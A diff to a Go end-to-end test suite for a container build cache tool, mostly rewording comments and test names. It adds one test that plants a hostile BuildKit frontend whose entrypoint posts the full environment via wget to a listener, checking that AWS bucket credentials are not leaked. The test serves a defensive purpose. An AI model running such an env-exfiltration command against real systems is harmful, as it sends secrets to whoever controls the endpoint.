@@ -2,21 +2,26 @@ package e2e
 
 import (
 	"bufio"
+	"io"
 	"maps"
 	"net/http"
+	"net/http/httptest"
 	"os/exec"
 	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
 
+	"github.com/google/go-containerregistry/pkg/name"
 	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/remote"
 	"github.com/google/go-containerregistry/pkg/v1/types"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
 
-// oneStage is all that a cache inside the image knows.
+// oneStage is a Dockerfile with one stage, because a cache in the image covers only the last stage.
 const oneStage = "FROM " + base + "\nCOPY deps.txt .\nRUN cat deps.txt > installed\nCOPY src src\n"
 
 func TestModes(t *testing.T) {
@@ -26,23 +31,24 @@ func TestModes(t *testing.T) {
 		name       string
 		dockerfile string
 		env        func(*world) map[string]string
-		// all are the steps that run in a cold build; unchanged and changed are those that have to run then.
+		// all are the steps that run in a cold build. unchanged and changed are those that run in the next
+		// two builds.
 		all, unchanged, changed []string
-		// exported is what the cold build says of the export.
+		// exported is the cold build's report of the export.
 		exported string
 	}{
-		{"registry keeps every step", dockerfile, nil, everyStep, nil, afterTheChange, "yes"},
-		{"registry with the last stage's layers needs the other stages when they changed", dockerfile, variables("LAYERCACHE_LAYERS", "final"),
+		{"registry caches every step", dockerfile, nil, everyStep, nil, afterTheChange, "yes"},
+		{"registry with only the last stage's layers runs all steps after a change in another stage", dockerfile, variables("LAYERCACHE_LAYERS", "final"),
 			everyStep, nil, everyStep, "yes"},
-		{"inline takes the last stage out of the image that was pushed", oneStage, variables("LAYERCACHE_MODE", "inline"),
+		{"inline reads the last stage from the pushed image", oneStage, variables("LAYERCACHE_MODE", "inline"),
 			[]string{"COPY deps.txt .", "RUN cat deps.txt > installed", "COPY src src"}, nil, []string{"COPY src src"}, "yes"},
-		{"image does the same", oneStage, variables("LAYERCACHE_MODE", "image"),
+		{"image reads the last stage from the pushed image", oneStage, variables("LAYERCACHE_MODE", "image"),
 			[]string{"COPY deps.txt .", "RUN cat deps.txt > installed", "COPY src src"}, nil, []string{"COPY src src"}, "yes"},
-		{"local keeps every step in a folder", dockerfile, func(w *world) map[string]string {
+		{"local caches every step in a folder", dockerfile, func(w *world) map[string]string {
 			return map[string]string{"LAYERCACHE_MODE": "local", "LAYERCACHE_LOCAL_DIR": filepath.Join(w.tmp, "cache,dir")}
 		}, everyStep, nil, afterTheChange, "yes"},
-		{"s3 keeps every step in a bucket", dockerfile, bucket, everyStep, nil, afterTheChange, "yes"},
-		{"off keeps none", dockerfile, variables("LAYERCACHE_MODE", "off"), everyStep, everyStep, everyStep, "off"},
+		{"s3 caches every step in a bucket", dockerfile, bucket, everyStep, nil, afterTheChange, "yes"},
+		{"off caches nothing", dockerfile, variables("LAYERCACHE_MODE", "off"), everyStep, everyStep, everyStep, "off"},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -71,9 +77,41 @@ func TestModes(t *testing.T) {
 			}
 			assert.Equal(t, want, changed.Verdict, changed.VerdictReason)
 			if w.env["LAYERCACHE_MODE"] != "" {
-				assert.Empty(t, w.tags("cache"), "the cache is elsewhere")
+				assert.Empty(t, w.tags("cache"), "the cache must not be in the registry")
 			}
 		})
+	}
+}
+
+// A frontend is an image that the Dockerfile names. BuildKit gives it the flags of the caches that are read.
+func TestAFrontendIsNotGivenTheCredentialsOfTheBucket(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.set(bucket)
+	given := make(chan string, 1)
+	listener := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		content, _ := io.ReadAll(r.Body)
+		given <- string(content)
+	}))
+	defer listener.Close()
+	frontend := w.registry.Addr() + "/frontend:1"
+	image, err := mutate.Config(w.pulled(w.registry.Addr()+"/ecr-public/docker/library/busybox:1.37"), v1.Config{
+		Entrypoint: []string{"/bin/sh", "-c", `wget -q -O /dev/null --post-data "$(env)" ` + listener.URL}, Env: []string{"PATH=/bin:/usr/bin"},
+	})
+	require.NoError(t, err)
+	ref, err := name.ParseReference(frontend)
+	require.NoError(t, err)
+	require.NoError(t, remote.Write(ref, image))
+	w.write("Dockerfile", "# syntax="+frontend+"\n"+oneStage)
+	got := w.build()
+	assert.NotZero(t, got.exitCode)
+	select {
+	case environment := <-given:
+		assert.Contains(t, environment, `"bucket":"caches"`, "the flags of the caches")
+		assert.NotContains(t, environment, w.env["AWS_ACCESS_KEY_ID"])
+		assert.NotContains(t, environment, w.env["AWS_SECRET_ACCESS_KEY"])
+	default:
+		assert.Fail(t, "the frontend was not called", got.log)
 	}
 }
 
@@ -82,13 +120,13 @@ func TestLayersOfTheCache(t *testing.T) {
 	cases := []struct {
 		name string
 		env  func(*world) map[string]string
-		// beside is how many layers the cache has, of each media type, that the image has not.
-		beside map[types.MediaType]int
+		// additional is the number of layers by media type that the cache has and the image does not have.
+		additional map[types.MediaType]int
 	}{
-		{"every step's, by zstd", nil, map[types.MediaType]int{types.OCILayerZStd: 5}},
-		{"every step's, by zstd at a level", variables("LAYERCACHE_COMPRESSION_LEVEL", "19"), map[types.MediaType]int{types.OCILayerZStd: 5}},
-		{"every step's, by gzip", variables("LAYERCACHE_COMPRESSION", "gzip"), map[types.MediaType]int{types.OCILayer: 5}},
-		{"the last stage's alone, which are the image's", variables("LAYERCACHE_LAYERS", "final"), map[types.MediaType]int{}},
+		{"every step, with zstd", nil, map[types.MediaType]int{types.OCILayerZStd: 5}},
+		{"every step, with zstd at a given level", variables("LAYERCACHE_COMPRESSION_LEVEL", "19"), map[types.MediaType]int{types.OCILayerZStd: 5}},
+		{"every step, with gzip", variables("LAYERCACHE_COMPRESSION", "gzip"), map[types.MediaType]int{types.OCILayer: 5}},
+		{"only the last stage, whose layers are in the image", variables("LAYERCACHE_LAYERS", "final"), map[types.MediaType]int{}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -97,18 +135,18 @@ func TestLayersOfTheCache(t *testing.T) {
 			w.set(c.env)
 			w.succeeds(w.build())
 			image := w.layers(w.image())
-			beside := map[types.MediaType]int{}
+			additional := map[types.MediaType]int{}
 			for digest, mediaType := range w.layers(w.registry.Addr() + "/cache:shop--linux-amd64--main") {
 				if _, ok := image[digest]; !ok {
-					beside[mediaType]++
+					additional[mediaType]++
 				}
 			}
-			assert.Equal(t, c.beside, beside)
+			assert.Equal(t, c.additional, additional)
 		})
 	}
 }
 
-// layers are the media types of an image's layers, or of a cache's, by their digests.
+// layers returns the media types of the layers of an image or a cache, by digest.
 func (w *world) layers(ref string) map[v1.Hash]types.MediaType {
 	w.t.Helper()
 	manifest, err := w.pulled(ref).Manifest()
@@ -120,21 +158,21 @@ func (w *world) layers(ref string) map[v1.Hash]types.MediaType {
 	return layers
 }
 
-// set sets variables that depend on the world, if any.
+// set sets the variables that env returns. env may be nil.
 func (w *world) set(env func(*world) map[string]string) {
 	if env != nil {
 		maps.Copy(w.env, env(w))
 	}
 }
 
-// variables sets one variable.
+// variables returns a function that sets one variable.
 func variables(variable, value string) func(*world) map[string]string {
 	return func(*world) map[string]string { return map[string]string{variable: value} }
 }
 
 var runningOn = regexp.MustCompile(`Running on (http://\S+:(\d+))`)
 
-// bucket starts a stand-in for S3 with a bucket, and returns the variables that lead there.
+// bucket starts a fake S3 with a bucket and returns the variables to use it.
 func bucket(w *world) map[string]string {
 	w.t.Helper()
 	cmd := exec.Command("moto_server", "-p", "0")
@@ -151,7 +189,7 @@ func bucket(w *world) map[string]string {
 			address = "http://127.0.0.1:" + match[2]
 		}
 	}
-	require.NotEmpty(w.t, address, "moto_server did not say where it runs")
+	require.NotEmpty(w.t, address, "moto_server did not print its address")
 	go func() {
 		for lines.Scan() {
 			continue
@@ -165,6 +203,6 @@ func bucket(w *world) map[string]string {
 	require.Equal(w.t, http.StatusOK, answer.StatusCode)
 	return map[string]string{
 		"LAYERCACHE_MODE": "s3", "LAYERCACHE_S3": "caches/shop/", "AWS_ENDPOINT_URL_S3": address, "AWS_REGION": "us-east-1",
-		"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secret",
+		"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "the-bucket-s-secret-key",
 	}
 }
